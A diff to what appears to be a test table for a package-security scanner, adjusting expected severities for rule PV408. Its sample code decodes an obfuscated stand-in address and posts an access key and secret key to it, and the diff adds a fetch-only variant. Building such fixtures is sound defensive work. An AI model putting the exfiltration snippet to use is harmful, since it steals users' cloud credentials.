@@ -773,7 +773,16 @@ SEVERITY_PATHS = {
             "def send(access_key, secret_key):\n"
             "    url = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYXdz').decode()\n"
             "    requests.post(url=url, json={'ak': access_key, 'sk': secret_key})\n")},
-        "mypkg/client.py", 6, S.MEDIUM, "a hidden address in a function nothing calls on load"),
+        "mypkg/client.py", 6, S.HIGH, "keys posted to a hidden address: high even on demand"),
+    "pv408-run-time-fetch": SevPath("PV408", {
+        "PKG-INFO": _PKG_INFO, "mypkg/client.py": (
+            "import base64\n"
+            "import requests\n"
+            "\n"
+            "def check():\n"
+            "    url = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYXdz').decode()\n"
+            "    return requests.get(url, timeout=5).status_code\n")},
+        "mypkg/client.py", 6, S.MEDIUM, "a hidden address fetched on demand, nothing sent"),
     "pv102-pip-from-a-foreign-host": SevPath("PV102", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
             "import os\n"
